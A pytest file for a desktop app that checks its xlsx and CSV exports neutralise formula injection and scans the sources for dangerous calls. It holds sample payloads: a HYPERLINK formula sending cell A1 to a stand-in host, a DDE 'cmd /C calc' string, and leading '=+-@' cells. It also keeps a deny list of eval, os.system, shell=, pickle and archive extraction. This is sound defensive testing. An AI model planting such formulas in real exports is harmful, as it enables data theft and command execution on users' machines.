"""No cell of an export becomes a formula on somebody's PC, whichever exporter wrote it."""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop_app.adapters import workbook_writer
from desktop_app.domain.text import harmless_cell
from desktop_app.usecases.ports import WrittenSheet, WrittenTable

HOSTILE = (
    '=HYPERLINK("http://contoh.invalid?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
)
# Whoever writes cells; a new one has to be put to the test below before it stands here.
# `demo.py` writes invented people for its own importer to read, and nobody opens that.
WRITERS = {
    "workbook_writer.py",
    "reports_xlsx.py",
    "message_outbox.py",
    "case_list.py",
    "programme_papers.py",
    "demo.py",
}
SOURCES = Path(workbook_writer.__file__).parents[1]


def formulas(path: Path) -> list[str]:
    book = load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    found = [str(cell.value) for cell in cells if cell.data_type == "f"]
    book.close()
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_has_no_formula(tmp_path: Path, text: str) -> None:
    rows = [(text, "biasa", text)]
    table = WrittenTable(text, (text, text, text), rows, (text,))
    workbook_writer.write_rows(tmp_path / "a.xlsx", (text, "b", "c"), rows)
    workbook_writer.write_book(tmp_path / "b.xlsx", [WrittenSheet("Data", (text,), [(text,)])])
    workbook_writer.write_tables(tmp_path / "c.xlsx", [table])
    assert [formulas(tmp_path / f"{one}.xlsx") for one in "abc"] == [[], [], []]


def _begins_like_a_formula(cell: str) -> bool:
    return cell[:1] in tuple("=+-@\t\r\n") or cell.lstrip()[:1] in tuple("=+-@")


@settings(max_examples=60)
@given(st.sampled_from(HOSTILE) | st.text(max_size=20))
def test_a_list_as_csv_has_none_either(text: str) -> None:
    stream = io.StringIO()
    csv.writer(stream, delimiter=";").writerow([harmless_cell(text)])
    (cell,) = next(csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=";"), [""])
    assert not cell or not _begins_like_a_formula(cell)


def _writes_cells(path: Path) -> bool:
    text = path.read_text(encoding="utf-8")
    if not re.search("csv|openpyxl", text):
        return False  # to take all thousand sources apart costs seconds
    tree = ast.parse(text)
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            names.add(f"{node.value.id}.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "openpyxl":
            names |= {f"openpyxl.{one.name}" for one in node.names}
    return bool(names & {"csv.writer", "csv.DictWriter", "openpyxl.Workbook"})


def test_whoever_writes_csv_makes_each_cell_harmless() -> None:
    for name in (
        "usecases/case_list.py",
        "usecases/programme_papers.py",
        "adapters/message_outbox.py",
    ):
        assert "harmless_cell(cell) for cell in row" in (SOURCES / name).read_text("utf-8")


def test_nobody_else_writes_cells() -> None:
    found = {path.name for path in SOURCES.rglob("*.py") if _writes_cells(path)}
    assert found <= WRITERS


# Without one of these words nothing of what is forbidden can be called.
_WORDS = re.compile(
    r"\b(eval|exec|os|shell|yaml|marshal|pickle|shelve|shutil|tarfile|__import__|extract(all)?)\b"
)


def _calls(path: Path) -> Iterable[str]:
    text = path.read_text(encoding="utf-8")
    if not _WORDS.search(text):
        return
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func)
            if any(one.arg == "shell" for one in node.keywords):
                yield "shell="


def test_nothing_is_evaluated_unpickled_unpacked_or_given_to_a_shell() -> None:
    forbidden = {"eval", "exec", "os.system", "os.popen", "shell=", "yaml.load", "marshal.loads"}
    forbidden |= {"pickle.load", "shelve.open", "archive.extractall", "archive.extract"}
    forbidden |= {"pickle.loads", "shutil.unpack_archive", "tarfile.open", "__import__"}
    found = {
        (path.name, call)
        for path in SOURCES.rglob("*.py")
        for call in _calls(path)
        if call in forbidden or call.endswith((".extractall", ".extract"))
    }
    # Between this program's own processes only: both ends are ours, and nothing lies on the disk.
    assert found <= {("process.py", "pickle.loads")}
